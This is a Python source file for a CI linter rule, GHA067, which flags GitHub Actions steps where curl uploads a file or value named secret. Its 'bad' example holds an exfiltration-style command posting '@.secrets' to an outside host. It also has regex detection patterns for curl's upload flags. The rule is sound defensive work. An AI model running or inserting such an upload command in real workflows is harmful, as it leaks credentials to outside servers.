import re
from collections.abc import Iterator

from aurora_devops import Finding, Script, bad, good, policy
from aurora_devops.core.lazy import regex
from aurora_devops.kinds.github import StepIn

_CURL = regex(r"\bcurl\b[^\n|;&]*+", re.IGNORECASE)
_UPLOADED = regex(
    r"(?:--data(?:-\w++)?|-d|-F|--form|-T|--upload-file)[ =]?[\"']?@?(?P<value>[^\s\"']*+)", re.IGNORECASE
)


@policy(
    "GHA067",
    severity="warning",
    category="security",
    equivalents={"checkov": "CKV_GHA_3"},
    examples=[
        bad(
            """\
            on: push
            jobs:
              build:
                runs-on: ubuntu-24.04
                steps:
                  - run: «curl -X POST --data "@.secrets" https://example.com»
            """
        ),
        good(
            """\
            on: push
            jobs:
              build:
                runs-on: ubuntu-24.04
                steps:
                  - run: curl -X POST --data "@report.json" https://example.com
            """,
            because="the file is not named secret",
        ),
    ],
)
def secret_upload(script: Script) -> Iterator[Finding]:
    """A script sends a file or a value named secret to a server.

    Compromised workflows exfiltrate secrets like this.
    Find out who added the command; if it is intended, pass the secret in a header that is read from the environment.
    """
    if "curl" not in script.text or not isinstance(script.context, StepIn):
        return
    reported = 0  # up to here: one finding a line
    for match in _CURL.finditer(script.text):
        if match.start() < reported:
            continue
        if any("secret" in value.lower() for value in _UPLOADED.findall(match[0])):
            line_end = script.text.find("\n", match.end())
            reported = line_end if line_end >= 0 else len(script.text)
            end = match.start() + len(script.text[match.start() : reported].rstrip())
            yield Finding(
                at=script.place(match.start(), end), message="curl sends a file or value named secret"
            )
